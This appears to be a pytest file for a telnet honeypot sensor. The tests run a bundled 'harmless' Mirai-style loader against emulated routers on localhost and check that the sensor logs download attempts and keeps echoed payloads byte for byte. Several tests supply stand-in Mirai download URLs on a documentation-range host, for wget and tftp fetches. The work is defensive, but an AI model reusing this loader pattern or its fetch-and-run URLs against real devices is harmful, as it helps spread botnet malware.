"""The harmless loader against a whole sensor: what it brings is kept byte for byte, on every machine."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from eudaemon.demo.loader import ARCHITECTURES, Outcome, attack
from eudaemon.world.machines import MACHINES, program
from eudaemon.world.personas import PERSONAS
from eudaemon.world.seed import Seed
from sensor.harness import events, running

BY_NUMBER = {(machine.number, machine.data): machine for machine in MACHINES.values()}


def kept(home: Path, content: bytes) -> bool:
    """Whether the sensor keeps this content: under its SHA-256, and stated as a fact."""
    digest = hashlib.sha256(content).hexdigest()
    stated = {event.fact.sha256 for event in events(home, "artefact.kept")}  # type: ignore[attr-defined]
    files = [path for path in home.rglob("*") if path.is_file() and digest in path.name]
    return digest in stated and [path.read_bytes() for path in files] == [content]


def sample(architecture: str, size: int = 3000) -> bytes:
    wanted = {"arm7": "arm"}.get(architecture, architecture)
    key = next(key for key, name in ARCHITECTURES.items() if name == wanted)
    return program(BY_NUMBER[key], size, Seed(b"sample"), b"harmless")[:size]


async def attacked(home: Path, *, persona: str = "router", downloads: bool = False, **how: object) -> Outcome:
    async with running(home, "telnet", persona=persona, downloads=downloads) as net:
        outcome = await attack("127.0.0.1", net.port, **how)  # type: ignore[arg-type]
        await net.until("session.closed")
    return outcome


@pytest.mark.parametrize("persona", [persona.name for persona in PERSONAS if not persona.host])
async def test_every_machine_gets_its_sample_in_band(persona: str, tmp_path: Path) -> None:
    outcome = await attacked(tmp_path, persona=persona, payload=sample)
    assert (outcome.succeeded, outcome.stage, outcome.method) == (True, "done", "echo"), outcome.text()
    assert outcome.payload == sample(outcome.architecture)
    assert kept(tmp_path, outcome.payload)


@pytest.mark.parametrize("size", [1, 4095, 4096, 4097, 65_536])
async def test_any_size_is_byte_exact(size: int, tmp_path: Path) -> None:
    payload = (sample("mips", 64) + bytes(range(256)) * (size // 256 + 1))[:size]
    outcome = await attacked(tmp_path, payload=payload)
    assert outcome.payload == payload
    assert kept(tmp_path, payload)


async def test_wget_and_tftp_are_chosen_where_they_are(tmp_path: Path) -> None:
    """Nothing is fetched here; what was wished is what counts."""
    outcome = await attacked(tmp_path, downloads=True, payload=sample, http="http://198.51.100.7/bins/mirai.{arch}")
    assert (outcome.succeeded, outcome.method) == (False, "wget")
    wished = [event.fact.url for event in events(tmp_path, "download.wished")]  # type: ignore[attr-defined]
    assert wished == [f"http://198.51.100.7/bins/mirai.{outcome.architecture}"]


async def test_tftp_that_fails_falls_back_to_echo(tmp_path: Path) -> None:
    outcome = await attacked(
        tmp_path, downloads=True, payload=sample, method="tftp", tftp="tftp://198.51.100.7/m.{arch}"
    )
    assert (outcome.succeeded, outcome.method) == (True, "echo")
    assert kept(tmp_path, outcome.payload)


async def test_a_line_end_that_comes_late(tmp_path: Path) -> None:
    outcome = await attacked(tmp_path, payload=sample, line_delay_s=0.05)
    assert outcome.succeeded


async def test_a_refused_login_is_told(tmp_path: Path) -> None:
    outcome = await attacked(tmp_path, payload=sample, user="nobody", password="")
    assert (outcome.succeeded, outcome.stage) == (False, "password")


@asynccontextmanager
async def stranger(answer: bytes) -> AsyncIterator[int]:
    """A server that says one thing and listens."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(answer)
        await reader.read(1024)
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield server.sockets[0].getsockname()[1]


@pytest.mark.parametrize("answer", [b"", b"\xff", b"SSH-2.0-x\r\n", b"login: "])
async def test_what_is_no_victim_is_told(answer: bytes) -> None:
    async with stranger(answer) as port:
        outcome = await attack("127.0.0.1", port, timeout_s=0.3)
    assert not outcome.succeeded
    assert outcome.stage in ("login", "password")
